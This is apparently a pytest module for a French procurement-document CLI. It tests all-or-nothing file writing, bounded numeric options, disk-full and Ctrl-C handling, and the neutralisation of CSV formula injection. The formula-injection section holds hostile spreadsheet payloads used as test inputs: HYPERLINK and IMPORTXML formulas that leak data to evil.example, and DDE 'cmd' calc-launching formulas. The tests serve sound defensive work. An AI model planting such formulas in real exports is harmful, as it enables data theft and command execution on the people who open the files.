"""Hostile outputs: where a command writes, its numeric options, faults while it writes, and
spreadsheet cells (issue 15, items 5 to 8).

- All or nothing on disk: a command that cannot write one of its files leaves the output
  folder exactly as it was, and the error names that file; ``balance`` keeps its
  per-record behaviour and counts exactly what it wrote.
- Numeric options take plain digits within bounds.
- A full disk (a small tmpfs, mounted when the tests run as root), a failed conversion or
  Ctrl-C: a clear error, exact counts, no temporary file left.
- CSV cells that a spreadsheet would run as formulas are neutralised.

PDF conversion here goes through a fake ``soffice`` (a script that writes a one-page PDF
per document, can fail on one or go slowly) and, for the pool of workers (``--pdf``'s
default), a fake UNO Python that runs the pool's worker protocol with the same behaviour, so
these tests are fast; test_pdf.py and test_converter_pool.py run the real LibreOffice.
"""

from __future__ import annotations

import csv
import errno
import io
import os
import re
import signal
import stat
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable, Iterator
from decimal import Decimal
from pathlib import Path

import pytest
import yaml
from pypdf import PdfWriter

from clausegen.cli.views.spreadsheet import FORMULA_TRIGGERS, cell
from clausegen.render import converters, outputs, pool
from clausegen.render.pool import UNO_PYTHON_ENV
from tests.helpers import FOLLOW_UP, OPERATION, SAMPLE, operation_data, run
from tests.hostile.runner import MAX_GROWTH_MIB, TIME_LIMIT_S, run_case

COMPANY_4 = str(SAMPLE / "engagements/lot-04-peintures-audoises.yaml")
TENDER_FILES = [
    "ccap-clause-insertion.docx",
    "ccap-clause-insertion.manifest.json",
    "rc-clause-insertion.docx",
    "rc-clause-insertion.manifest.json",
]
TENDER_PDF_FILES = [
    *TENDER_FILES,
    "ccap-clause-insertion.pdf",
    "rc-clause-insertion.pdf",
    "annexe-clause-insertion.pdf",
    "annexe-clause-insertion.manifest.json",
]
FAKE_PDF_PADDING = 40_000
"""Bytes of padding in each fake PDF: about a real balance PDF's size."""


# --- helpers ---------------------------------------------------------------------------------


def snapshot(folder: Path) -> dict[str, tuple[int, bytes]] | None:
    """Every entry under ``folder`` (hidden ones too): its mode and content; None if absent."""
    if not os.path.lexists(folder):
        return None
    found: dict[str, tuple[int, bytes]] = {}
    for path in sorted(folder.rglob("*")):
        mode = path.lstat().st_mode
        content = path.read_bytes() if stat.S_ISREG(mode) else b""
        found[str(path.relative_to(folder))] = (mode, content)
    return found


def hidden(folder: Path) -> list[str]:
    return [p.name for p in folder.iterdir() if p.name.startswith(".")] if folder.is_dir() else []


def no_traceback(result) -> None:
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    assert "Traceback" not in result.output


def tender(out: Path | str, *extra: str):
    return run("tender", OPERATION, "-o", out, *extra)


def balance(out: Path | str, *extra: str):
    """``clausegen balance`` on the works sample, its ``Warning:`` lines left out of stderr
    (the sample's participants warn about a tutor and an exit to record)."""
    result = run("balance", OPERATION, *FOLLOW_UP, "-o", out, *extra)
    lines = result.stderr.splitlines(keepends=True)
    kept = "".join(line for line in lines if not line.startswith("Warning:"))
    result.stderr_bytes = kept.encode()
    return result


@pytest.fixture(scope="session")
def fake_soffice(tmp_path_factory) -> Path:
    """A folder holding a fake ``soffice`` and a fake UNO Python (``python-uno``). Both write
    a one-page PDF (padded to about a real balance's size) per document, fail on a document
    whose name holds ``$FAKE_SOFFICE_FAIL`` as a LibreOffice exiting with code 1 does, and
    take ``$FAKE_SOFFICE_DELAY`` s more on each document (``soffice`` before writing its PDF,
    ``python-uno`` after, before it answers). ``soffice`` speaks the batch
    protocol (``--convert-to``, a ``convert`` line per document); ``python-uno`` answers
    ``import uno`` and runs the pool worker's protocol (``uno_worker.py``: ``ready``, then a
    JSON answer per JSON request)."""
    folder = tmp_path_factory.mktemp("fake-soffice")
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.add_metadata({"/Padding": "x" * FAKE_PDF_PADDING})
    pdf = folder / "page.pdf"
    with pdf.open("wb") as stream:
        writer.write(stream)
    script = folder / "soffice"
    script.write_text(
        f"""#!{sys.executable}
import os, shutil, sys, time
args = sys.argv[1:]
outdir = args[args.index("--outdir") + 1]
os.makedirs(outdir, exist_ok=True)
fail = os.environ.get("FAKE_SOFFICE_FAIL", "")
delay = float(os.environ.get("FAKE_SOFFICE_DELAY", "0"))
for document in args[args.index("--outdir") + 2:]:
    name = os.path.basename(document)
    pdf = os.path.join(outdir, name.rsplit(".", 1)[0] + ".pdf")
    print(f"convert {{document}} -> {{pdf}} using filter : writer_pdf_Export", flush=True)
    if fail and fail in name:
        sys.exit(1)
    time.sleep(delay)
    shutil.copy({str(pdf)!r}, pdf)
"""
    )
    script.chmod(0o755)
    worker = folder / "python-uno"
    worker.write_text(
        f"""#!{sys.executable}
import json, os, shutil, sys, time
if sys.argv[1:] == ["-c", "import uno"]:
    sys.exit(0)
fail = os.environ.get("FAKE_SOFFICE_FAIL", "")
delay = float(os.environ.get("FAKE_SOFFICE_DELAY", "0"))
print(json.dumps({{"ready": True}}), flush=True)
for line in sys.stdin:
    request = json.loads(line)
    if fail and fail in os.path.basename(request["docx"]):
        error = "LibreOffice stopped with exit code 1 while converting it"
        print(json.dumps({{"error": error}}), flush=True)
        sys.exit(1)
    shutil.copy({str(pdf)!r}, request["pdf"])
    time.sleep(delay)
    print(json.dumps({{"ok": True}}), flush=True)
"""
    )
    worker.chmod(0o755)
    return folder


def fake_environment(fake_soffice: Path) -> dict[str, str]:
    """The variables that make a command convert with the fakes."""
    return {
        "PATH": f"{fake_soffice}{os.pathsep}{os.environ['PATH']}",
        UNO_PYTHON_ENV: str(fake_soffice / "python-uno"),
    }


@pytest.fixture
def with_fake_soffice(fake_soffice, monkeypatch) -> Iterator[Path]:
    """The fakes for this test's commands, with a process-wide pool of its own (closed after
    the test; the session's pool and its UNO Python are left alone)."""
    for name, value in fake_environment(fake_soffice).items():
        monkeypatch.setenv(name, value)
    monkeypatch.setattr(pool, "_uno_python", None)
    monkeypatch.setattr(converters, "_shared", None)
    yield fake_soffice
    if converters._shared is not None:
        converters._shared.close()


ONE_AT_A_TIME = ("--pdf-workers", "1")
"""One LibreOffice batch, converting in order: a failure's exact count of PDFs written
depends on that order (the pool converts two documents at once)."""


@pytest.fixture
def small_disk(tmp_path) -> Iterator[Callable[[int], Path]]:
    """Mounts a tmpfs of the size asked (bytes) and unmounts it after the test; skipped
    unless the tests run as root."""
    if os.geteuid() != 0:
        pytest.skip("mounting a small file system needs root")
    mounted: list[Path] = []

    def mount(size: int) -> Path:
        point = tmp_path / f"disk{len(mounted)}"
        point.mkdir()
        done = subprocess.run(
            ["mount", "-t", "tmpfs", "-o", f"size={size}", "tmpfs", str(point)],
            capture_output=True,
            text=True,
        )
        if done.returncode != 0:
            pytest.skip(f"cannot mount a tmpfs here: {done.stderr.strip()}")
        mounted.append(point)
        return point

    yield mount
    for point in mounted:
        subprocess.run(["umount", str(point)], check=False)


def pages(size: int) -> int:
    """Bytes a file of ``size`` takes on a tmpfs (whole 4 KiB pages)."""
    return -(-size // 4096) * 4096


@pytest.fixture(scope="module")
def balance_sizes(tmp_path_factory) -> list[int]:
    """What each balance's DOCX and manifest take on a tmpfs, in participant order."""
    out = tmp_path_factory.mktemp("sizes")
    assert balance(out / "b", "--jobs", "1").exit_code == 0
    return [
        pages((out / "b" / f"bilan-P{n:02d}.docx").stat().st_size)
        + pages((out / "b" / f"bilan-P{n:02d}.manifest.json").stat().st_size)
        for n in range(1, 14)
    ]


# --- 5. all or nothing on disk ---------------------------------------------------------------


def test_an_empty_output_path_is_a_usage_error(tmp_path):
    result = tender("")
    assert result.exit_code == 2
    assert result.stderr.endswith(
        "Error: Invalid value for '-o' / '--output': an empty path is not a folder; give the "
        "folder to write into (-o . for the current one).\n"
    )


def test_an_output_folder_under_a_file(tmp_path):
    (tmp_path / "plain").write_text("x")
    result = tender(tmp_path / "plain" / "dce")
    assert (result.exit_code, result.stdout) == (1, "")
    assert result.stderr == (
        f"Error: {tmp_path}/plain/dce: cannot be created: {tmp_path}/plain is a file, not a "
        "folder; give another folder (-o).\n"
    )


def test_an_output_folder_name_too_long(tmp_path):
    result = tender(tmp_path / ("d" * 300))
    assert (result.exit_code, result.stdout) == (1, "")
    assert result.stderr == (
        f"Error: {tmp_path}/{'d' * 300}: cannot be created: a folder name is longer than 255 "
        "bytes; give a shorter folder (-o).\n"
    )
    assert list(tmp_path.iterdir()) == []


def test_a_folder_where_the_last_file_goes_leaves_the_folder_as_it_was(tmp_path):
    """An earlier run's files stay exactly as they were when the new run cannot write its
    last file: nothing is half-replaced."""
    out = tmp_path / "dce"
    assert tender(out).exit_code == 0
    for name in TENDER_FILES[:-1]:
        (out / name).write_bytes(b"earlier run " + name.encode())
    (out / TENDER_FILES[-1]).unlink()
    (out / TENDER_FILES[-1]).mkdir()
    (out / TENDER_FILES[-1] / "note.txt").write_text("someone's")
    before = snapshot(out)
    result = tender(out)
    assert (result.exit_code, result.stdout) == (1, "")
    assert result.stderr == (
        f"Error: {out}/rc-clause-insertion.manifest.json: cannot be written (Is a directory): "
        "a folder has that name; move or rename it, or write elsewhere (-o). Nothing was "
        "written.\n"
    )
    assert snapshot(out) == before


def test_a_failed_move_of_the_last_file_puts_back_the_files_already_moved(tmp_path, monkeypatch):
    """The last ``os.replace`` of the commit fails (a disk error): the three files already
    moved are put back as they were, the fourth was never there."""
    out = tmp_path / "dce"
    assert tender(out).exit_code == 0
    for name in TENDER_FILES:
        (out / name).write_bytes(b"earlier run " + name.encode())
    (out / TENDER_FILES[-1]).unlink()
    before = snapshot(out)
    replace = Path.replace

    def failing(self: Path, target):
        if Path(target).name == TENDER_FILES[-1] and self.parent.name.startswith(".clausegen-"):
            raise OSError(errno.EIO, os.strerror(errno.EIO))
        return replace(self, target)

    monkeypatch.setattr(Path, "replace", failing)
    result = tender(out)
    assert result.exit_code == 1
    assert result.stderr == (
        f"Error: {out}/rc-clause-insertion.manifest.json: cannot be written "
        "(Input/output error): check the disk and the folder, or write elsewhere (-o). "
        "Nothing was written.\n"
    )
    assert snapshot(out) == before


def test_a_command_that_fails_to_write_removes_the_folder_it_created(tmp_path, monkeypatch):
    monkeypatch.setattr(Path, "replace", _always(errno.EIO))
    result = tender(tmp_path / "new" / "dce")
    assert result.exit_code == 1
    assert result.stderr.startswith(f"Error: {tmp_path}/new/dce/ccap-clause-insertion.docx: ")
    assert list(tmp_path.iterdir()) == []


def _always(code: int):
    def failing(self: Path, target):
        raise OSError(code, os.strerror(code))

    return failing


def test_a_symbolic_link_in_place_of_an_output_is_replaced_not_written_through(tmp_path):
    out = tmp_path / "dce"
    out.mkdir()
    victim = tmp_path / "victim.txt"
    victim.write_text("untouched")
    (out / "ccap-clause-insertion.docx").symlink_to(victim)
    assert tender(out).exit_code == 0
    assert victim.read_text() == "untouched"
    assert not (out / "ccap-clause-insertion.docx").is_symlink()


@pytest.mark.parametrize(
    ("kind", "make"),
    [
        ("a named pipe (FIFO)", os.mkfifo),
        ("a device", lambda path: os.mknod(path, 0o666 | stat.S_IFCHR, os.makedev(1, 3))),
    ],
    ids=["fifo", "device"],
)
def test_a_device_or_a_pipe_in_place_of_an_output_is_left_alone(tmp_path, kind, make):
    """``export decp -o /dev/full`` run as root replaced the device with the JSON file."""
    target = tmp_path / "null"
    try:
        make(target)
    except PermissionError:  # a device node needs root, and a container may forbid it
        pytest.skip(f"this machine does not let the tests make {kind}")
    result = run("export", "decp", OPERATION, "-o", target)
    assert (result.exit_code, result.stdout) == (1, "")
    assert result.stderr == (
        f"Error: {target}: is {kind}, which clausegen does not replace; give the path of a "
        "file (-o), or leave -o out where the command can print to the standard output.\n"
    )
    mode = os.lstat(target).st_mode
    assert stat.S_ISFIFO(mode) if kind.startswith("a named") else stat.S_ISCHR(mode)
    assert sorted(path.name for path in tmp_path.iterdir()) == ["null"]


def test_a_pdf_placed_where_a_named_pipe_is_leaves_the_pipe(tmp_path):
    """``place`` (the balances' PDFs, one by one) refuses as ``commit`` does."""
    (tmp_path / "made").mkdir()
    (tmp_path / "out").mkdir()
    source = tmp_path / "made" / "bilan-P01.pdf"
    source.write_bytes(b"%PDF-1.7")
    os.mkfifo(tmp_path / "out" / "bilan-P01.pdf")
    with pytest.raises(outputs.OutputError, match="is a named pipe"):
        outputs.place(source, tmp_path / "out")
    assert stat.S_ISFIFO(os.lstat(tmp_path / "out" / "bilan-P01.pdf").st_mode)
    assert source.read_bytes() == b"%PDF-1.7"


def test_a_balance_whose_file_is_a_folder_fails_alone(tmp_path):
    """balance keeps its per-record behaviour: the others are written, the failure named."""
    out = tmp_path / "b"
    (out / "bilan-P03.docx").mkdir(parents=True)
    result = balance(out, "--jobs", "1")
    assert result.exit_code == 1
    assert result.stderr == (
        f"Error: participant P03 (bilan-P03.docx): {out}/bilan-P03.docx: cannot be written "
        "(Is a directory): a folder has that name; move or rename it, or write elsewhere "
        "(-o).\nError: 1 of 13 balances failed; the others are written.\n"
    )
    assert result.stdout == f"12 end-of-mission balances and their manifests in {out}.\n"
    assert len(list(out.glob("bilan-*.manifest.json"))) == 12
    assert hidden(out) == []


def test_pdf_failure_counts_the_pdfs_on_disk_for_the_tender(
    tmp_path, with_fake_soffice, monkeypatch
):
    """A blank form of the annex fails: the CCAP and RC PDFs are written, the annex is not,
    and the message counts 2, not the forms converted into the annex."""
    monkeypatch.setenv("FAKE_SOFFICE_FAIL", "engagement-lot-04")
    out = tmp_path / "dce"
    result = tender(out, "--pdf")
    assert result.exit_code == 1
    assert result.stdout.startswith("Law as of 2026-09-15 (launch date); 6 files in ")
    error = result.stderr.splitlines()[-1]
    assert error == (
        "Error: PDF conversion failed on engagement-lot-04.docx: LibreOffice stopped with exit "
        "code 1 while converting it, on the first try and on the retry. 2 PDF(s) were "
        "written; not converted: annexe-clause-insertion.pdf. Run the command again; if the "
        "same document fails, open its DOCX in LibreOffice to see why."
    )
    assert sorted(p.name for p in out.glob("*.pdf")) == [
        "ccap-clause-insertion.pdf",
        "rc-clause-insertion.pdf",
    ]
    assert hidden(out) == []


def test_pdf_failure_counts_the_balance_pdfs_on_disk(tmp_path, with_fake_soffice, monkeypatch):
    monkeypatch.setenv("FAKE_SOFFICE_FAIL", "bilan-P05")
    out = tmp_path / "b"
    result = balance(out, "--pdf", *ONE_AT_A_TIME)
    assert result.exit_code == 1
    assert result.stdout == (
        f"13 end-of-mission balances and their manifests, and 4 of their PDFs, in {out}.\n"
    )
    assert result.stderr == (
        "Error: PDF conversion failed on bilan-P05.docx: LibreOffice stopped with exit code 1 "
        "while converting it, on the first try and on the retry. 4 PDF(s) were written; not "
        "converted: bilan-P05.pdf, bilan-P06.pdf, bilan-P07.pdf, bilan-P08.pdf, bilan-P09.pdf "
        "and 4 more. Run the command again; if the same document fails, open its DOCX in "
        "LibreOffice to see why.\n"
    )
    assert len(list(out.glob("*.pdf"))) == 4
    assert hidden(out) == []


@pytest.mark.parametrize("workers", [(), ONE_AT_A_TIME], ids=["pool", "batch"])
def test_balance_with_all_its_pdfs_says_so(tmp_path, with_fake_soffice, workers):
    result = balance(tmp_path / "b", "--pdf", *workers)
    assert (result.exit_code, result.stderr) == (0, "")
    assert result.stdout == (
        f"13 end-of-mission balances and their manifests and PDFs in {tmp_path / 'b'}.\n"
    )
    assert len(list((tmp_path / "b").glob("*.pdf"))) == 13
    assert (converters._shared is not None) == (workers == ())


def test_two_commands_at_once_into_one_folder(tmp_path):
    """Each has its own staging folder: both succeed, every file whole, nothing left."""
    out = tmp_path / "dce"
    command = [sys.executable, "-m", "clausegen", "tender", str(OPERATION), "-o", str(out)]
    processes = [
        subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE) for _ in "ab"
    ]
    assert [p.wait(timeout=120) for p in processes] == [0, 0]
    assert sorted(p.name for p in out.iterdir()) == sorted(TENDER_FILES)
    reference = tmp_path / "one"
    assert tender(reference).exit_code == 0
    assert snapshot(out) == snapshot(reference)


# --- 6. options ------------------------------------------------------------------------------

OPTION_CASES = [
    (
        ["tender", OPERATION, "--pdf-timeout", "inf"],
        "Error: Invalid value for '--pdf-timeout': 'inf' is not a number of seconds written "
        "in digits (like 60 or 90.5); give a number of seconds from 1 to 3600.",
    ),
    (
        ["tender", OPERATION, "--pdf-timeout", "nan"],
        "Error: Invalid value for '--pdf-timeout': 'nan' is not a number of seconds written "
        "in digits (like 60 or 90.5); give a number of seconds from 1 to 3600.",
    ),
    (
        ["tender", OPERATION, "--pdf-timeout", "1e308"],
        "Error: Invalid value for '--pdf-timeout': '1e308' is not a number of seconds written "
        "in digits (like 60 or 90.5); give a number of seconds from 1 to 3600.",
    ),
    (
        ["tender", OPERATION, "--pdf-timeout", "3601"],
        "Error: Invalid value for '--pdf-timeout': '3601' is out of range; give a number of "
        "seconds from 1 to 3600.",
    ),
    (
        ["balance", OPERATION, *FOLLOW_UP, "--jobs", "0"],
        "Error: Invalid value for '--jobs': '0' is out of range; give a number of processes "
        "from 1 to 256.",
    ),
    (
        ["commitment", OPERATION, "--lot", "١"],
        "Error: Invalid value for '--lot': '١' is not a lot number written in digits (like "
        "1); give a lot number from 1 to 9999.",
    ),
    (
        [
            "evaluate",
            SAMPLE,
            f"{SAMPLE}/../{SAMPLE.name}",
            "--from",
            "2027-01-01",
            "--to",
            "2027-12-31",
        ],
        f"Error: Invalid value for FOLDERS: {SAMPLE}/../{SAMPLE.name} is the folder {SAMPLE} "
        "given again; its hours would be counted twice: give each operation folder once.",
    ),
    (
        ["evaluate", SAMPLE, "--from", "2027-02-29", "--to", "2027-12-31"],
        "Error: Invalid value for '--from': '2027-02-29' is not a date: February 2027 has 28 "
        "days; write a day that exists, as YYYY-MM-DD.",
    ),
    (
        ["evaluate", SAMPLE, "--from", "2027-01-01", "--to", "2027-13-31"],
        "Error: Invalid value for '--to': '2027-13-31' is not a date: there is no month 13; "
        "write YYYY-MM-DD.",
    ),
    (
        ["evaluate", SAMPLE, "--from", "0000-01-01", "--to", "2027-12-31"],
        "Error: Invalid value for '--from': '0000-01-01' is not a date: there is no year 0; "
        "write YYYY-MM-DD.",
    ),
    (
        ["evaluate", SAMPLE, "--from", "01/01/2027", "--to", "2027-12-31"],
        "Error: Invalid value for '--from': '01/01/2027' is not a date written YYYY-MM-DD "
        "(like 2027-03-15).",
    ),
]


@pytest.mark.parametrize(("arguments", "message"), OPTION_CASES)
def test_each_numeric_option_is_bounded(tmp_path, arguments, message):
    result = run(*arguments, "-o", tmp_path / "out")
    assert result.exit_code == 2
    assert result.stderr.splitlines()[-1] == message
    assert not (tmp_path / "out").exists()


def test_a_decimal_timeout_is_taken(tmp_path):
    assert tender(tmp_path / "dce", "--pdf-timeout", "90.5").exit_code == 0


# --- 7. faults while writing -----------------------------------------------------------------


def test_a_full_disk_leaves_nothing_of_the_tender(small_disk):
    disk = small_disk(64 * 1024)
    out = disk / "dce"
    result = tender(out)
    no_traceback(result)
    assert (result.exit_code, result.stdout) == (1, "")
    assert re.fullmatch(
        rf"Error: {out}/[a-z-]+\.(docx|manifest\.json): cannot be written \(No space left on "
        r"device\): free some space on that disk or write elsewhere \(-o\)\. Nothing was "
        r"written\.\n",
        result.stderr,
    ), result.stderr
    assert list(disk.iterdir()) == []


@pytest.mark.parametrize("jobs", ["1", "2"])
def test_a_full_disk_stops_the_balances_with_an_exact_count(small_disk, balance_sizes, jobs):
    disk = small_disk(sum(balance_sizes[:4]) + balance_sizes[4] // 2)
    out = disk / "b"
    result = balance(out, "--jobs", jobs)
    no_traceback(result)
    assert result.exit_code == 1
    docx = sorted(p.name for p in out.glob("*.docx"))
    written = len(docx)
    assert 1 <= written < 13
    assert len(list(out.glob("*.manifest.json"))) == written  # each balance whole
    assert result.stdout == f"{written} end-of-mission balances and their manifests in {out}.\n"
    failed = re.fullmatch(
        rf"Error: {out}/(bilan-P\d\d)\.(docx|manifest\.json): cannot be written \(No space left "
        r"on device\): free some space on that disk or write elsewhere \(-o\)\.\n"
        rf"Error: {written} of 13 balances are written; writing stopped there, so "
        rf"{13 - written} are not\.\n",
        result.stderr,
    )
    assert failed, result.stderr
    assert f"{failed.group(1)}.docx" not in docx
    assert hidden(out) == []


def test_a_full_disk_while_placing_the_balance_pdfs(small_disk, balance_sizes, with_fake_soffice):
    """The issue's case: the DOCX fit, the third PDF does not. No traceback, no hidden
    temporary file, the PDFs written counted exactly."""
    pdf = pages(FAKE_PDF_PADDING + 1000)
    disk = small_disk(sum(balance_sizes) + 2 * pdf + pdf // 2)
    out = disk / "b"
    result = balance(out, "--pdf", *ONE_AT_A_TIME)
    no_traceback(result)
    assert result.exit_code == 1
    pdfs = sorted(p.name for p in out.glob("*.pdf"))
    assert pdfs == ["bilan-P01.pdf", "bilan-P02.pdf"]
    assert len(list(out.glob("*.docx"))) == 13
    assert result.stdout == (
        f"13 end-of-mission balances and their manifests, and 2 of their PDFs, in {out}.\n"
    )
    assert result.stderr == (
        f"Error: {out}/bilan-P03.pdf: cannot be written (No space left on device): free some "
        "space on that disk or write elsewhere (-o). 2 of 13 PDFs are written; the others are "
        "not.\n"
    )
    assert hidden(out) == []


def test_a_read_only_folder_is_refused_once_before_anything_is_rendered(small_disk):
    disk = small_disk(64 * 1024)
    subprocess.run(["mount", "-o", "remount,ro", str(disk)], check=True)
    result = balance(disk / "b")
    assert (result.exit_code, result.stdout) == (1, "")
    assert result.stderr == (
        f"Error: {disk}/b: is on a read-only file system; write elsewhere (-o).\n"
    )


def _interrupt_when(command: list[str], ready: Callable[[], bool], env: dict[str, str]):
    process = subprocess.Popen(
        [sys.executable, "-m", "clausegen", *command],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        env={**os.environ, **env},
    )
    deadline = time.monotonic() + 60
    while not ready() and time.monotonic() < deadline and process.poll() is None:
        time.sleep(0.02)
    process.send_signal(signal.SIGINT)
    stdout, stderr = process.communicate(timeout=60)
    return process.returncode, stdout, stderr


CONVERTERS = {"pool": (), "batch": ONE_AT_A_TIME}


def converted(work: Path) -> int:
    """PDFs a converter made in its work folders (the batch's ``pdf`` folder, the pool's
    folder per attempt), not yet taken into the output folder."""
    return len(list(work.glob("clausegen-pdf-*/*/*.pdf")))


@pytest.mark.parametrize("converter", CONVERTERS)
def test_ctrl_c_during_the_balance_pdfs_says_what_was_written(tmp_path, fake_soffice, converter):
    """Interrupted while LibreOffice converts: the balances are written, and the PDFs
    finished (none for the batch, which hands its PDFs over at its end; the two under way for
    the pool), counted exactly; no document is started after Ctrl-C, the converter is
    stopped and its work folders removed."""
    out, work = tmp_path / "b", tmp_path / "tmp"
    work.mkdir()
    code, stdout, stderr = _interrupt_when(
        ["balance", str(OPERATION), *FOLLOW_UP, "-o", str(out), "--pdf", *CONVERTERS[converter]],
        lambda: converted(work) >= 2,
        {**fake_environment(fake_soffice), "FAKE_SOFFICE_DELAY": "0.5", "TMPDIR": str(work)},
    )
    assert (code, stdout) == (130, "")
    pdfs = len(list(out.glob("*.pdf")))
    # the pool's two workers: the two documents under way, or three if one had just finished
    assert pdfs in ((0,) if converter == "batch" else (2, 3))
    assert stderr == (
        "Error: interrupted (Ctrl-C); 13 end-of-mission balances and their manifests, and "
        f"{pdfs} of their PDFs, were written in {out}; the others were not.\n"
    )
    assert len(list(out.glob("*.docx"))) == 13
    assert hidden(out) == [] and list(work.iterdir()) == []


@pytest.mark.parametrize("converter", CONVERTERS)
def test_ctrl_c_during_the_tender_conversion_writes_nothing(tmp_path, fake_soffice, converter):
    out, work = tmp_path / "dce", tmp_path / "tmp"
    work.mkdir()
    code, stdout, stderr = _interrupt_when(
        ["tender", str(OPERATION), "-o", str(out), "--pdf", *CONVERTERS[converter]],
        lambda: converted(work) >= 1,
        {**fake_environment(fake_soffice), "FAKE_SOFFICE_DELAY": "0.5", "TMPDIR": str(work)},
    )
    assert (code, stdout) == (130, "")
    assert stderr == "Error: interrupted (Ctrl-C); nothing was written.\n"
    assert not out.exists() and list(work.iterdir()) == []


# --- 8. spreadsheet formula injection --------------------------------------------------------


def test_a_formula_in_a_lot_title_is_neutralised_in_the_csv(tmp_path):
    title = '=HYPERLINK("http://evil.example/?leak","x")'
    operation = tmp_path / "operation.yaml"
    operation.write_text(yaml.safe_dump(operation_data(intitule=title), allow_unicode=True))
    result = run("calibrate", operation, "--format", "csv")
    assert result.exit_code == 0
    line = result.stdout.splitlines()[1]
    assert line == (
        '1,"\'=HYPERLINK(""http://evil.example/?leak"",""x"")",maconnerie,'
        "part_main_oeuvre,1000000,0.50,0.05,30.00,833,0.52,0.0500,retenu,,"
    )


@pytest.mark.parametrize("text", ["=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "＝1", "  =1"])
def test_each_formula_trigger_is_neutralised_and_numbers_stay_numbers(text):
    assert cell(text) == f"'{text}"
    assert cell(Decimal("-12.50")) == Decimal("-12.50")
    assert cell(-3) == -3
    assert cell("Peinture - façades") == "Peinture - façades"
    assert "=" in FORMULA_TRIGGERS and "－" in FORMULA_TRIGGERS


def test_no_staging_folder_is_left_by_write_outputs(tmp_path):
    """The Python API writes all or none too."""
    written = outputs.write_outputs(tmp_path / "x", [outputs.OutputFile("a.txt", b"a")])
    assert written == [tmp_path / "x" / "a.txt"]
    assert hidden(tmp_path / "x") == []
    with pytest.raises(outputs.OutputError, match="is not a plain file name"):
        outputs.write_outputs(tmp_path / "y", [outputs.OutputFile("../escape.txt", b"a")])
    assert not (tmp_path / "escape.txt").exists() and not (tmp_path / "y").exists()


def test_the_csv_parses_back_with_numbers_in_numeric_columns(tmp_path):
    result = run("calibrate", OPERATION, "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert all(Decimal(r["montant_ht"]) > 0 for r in rows)


# --- the corpus: hostile cases of classes 5 to 8, generated, run through the CLI -------------

COMMANDS: dict[str, tuple[list[str], list[str]]] = {
    "tender": (["tender", str(OPERATION)], TENDER_FILES),
    "commitment": (
        ["commitment", str(OPERATION), "--lot", "4"],
        ["engagement-lot-04.docx", "engagement-lot-04.manifest.json"],
    ),
    "commitment-company": (
        ["commitment", str(OPERATION), "--lot", "4", "--company", COMPANY_4],
        [
            "engagement-lot-04-82345678500026.docx",
            "engagement-lot-04-82345678500026.manifest.json",
        ],
    ),
    "compliance": (
        ["compliance", str(OPERATION), "--commitments", str(SAMPLE / "engagements"), *FOLLOW_UP],
        [
            "conformite-81234567600017.docx",
            "conformite-81234567600017.manifest.json",
            "conformite-82345678500026.docx",
            "conformite-82345678500026.manifest.json",
        ],
    ),
    "balance": (
        ["balance", str(OPERATION), *FOLLOW_UP, "--participant", "P01"],
        ["bilan-P01.docx", "bilan-P01.manifest.json"],
    ),
}
"""Each document command (a quick form of it) and the files it writes."""

FORMULA_TITLES = [
    '=HYPERLINK("http://evil.example/?leak","x")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "+33 4 68 00 00 00",
    "-10 %",
    "@acheteur",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "   =1+1",
    "\u00a0=1+1",
    '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
]

BAD_NUMBERS = {
    "--pdf-timeout": [
        "inf",
        "-inf",
        "nan",
        "NaN",
        "1e308",
        "1e3",
        "0",
        "0.5",
        "3601",
        "-1",
        "",
        " 60",
        "60 ",
        "0x10",
        "6_0",
        "٣",
        "６０",
        "1/2",
        "60s",
        "9" * 400,
    ],
    "--jobs": ["0", "-1", "257", "1.5", "", "inf", "٢", "1" + "0" * 30, "0x2"],
    "--lot": ["0", "-1", "10000", "1.0", "abc", "١", "9" * 400, "+4"],
}


def _path_cases() -> Iterator[tuple[str, str, Callable[[Path], tuple[list[str], Path]]]]:
    """Class 5: output paths that cannot hold the outputs."""
    for command, (argv, names) in COMMANDS.items():

        def under_file(tmp: Path, argv: list[str] = argv) -> tuple[list[str], Path]:
            (tmp / "plain").write_text("x")
            return [*argv, "-o", str(tmp / "plain" / "out")], tmp / "plain" / "out"

        def is_file(tmp: Path, argv: list[str] = argv) -> tuple[list[str], Path]:
            (tmp / "out").write_text("x")
            return [*argv, "-o", str(tmp / "out")], tmp / "out"

        def long_name(tmp: Path, argv: list[str] = argv) -> tuple[list[str], Path]:
            return [*argv, "-o", str(tmp / ("n" * 256))], tmp / ("n" * 256)

        def long_path(tmp: Path, argv: list[str] = argv) -> tuple[list[str], Path]:
            deep = tmp.joinpath(*["p" * 200] * 21)
            return [*argv, "-o", str(deep)], tmp / ("p" * 200)

        def broken_link(tmp: Path, argv: list[str] = argv) -> tuple[list[str], Path]:
            (tmp / "out").symlink_to(tmp / "nowhere")
            return [*argv, "-o", str(tmp / "out")], tmp / "out"

        def empty(tmp: Path, argv: list[str] = argv) -> tuple[list[str], Path]:
            return [*argv, "-o", ""], tmp / "never"

        def nul(tmp: Path, argv: list[str] = argv) -> tuple[list[str], Path]:
            return [*argv, "-o", f"{tmp}/o\0ut"], tmp / "o"

        for kind, make in [
            ("under-a-file", under_file),
            ("is-a-file", is_file),
            ("name-256", long_name),
            ("path-4200", long_path),
            ("broken-link", broken_link),
            ("empty", empty),
            ("nul", nul),
        ]:
            yield "5-paths", f"{command}-{kind}", make
        for name in names:

            def folder_in_place(
                tmp: Path, argv: list[str] = argv, name: str = name
            ) -> tuple[list[str], Path]:
                (tmp / "out" / name).mkdir(parents=True)
                (tmp / "out" / "kept.txt").write_text("earlier")
                return [*argv, "-o", str(tmp / "out")], tmp / "out"

            yield "5-paths", f"{command}-folder-named-{name}", folder_in_place


def _option_cases() -> Iterator[tuple[str, str, Callable[[Path], tuple[list[str], Path]]]]:
    """Class 6: numeric options out of bounds or not plain digits."""
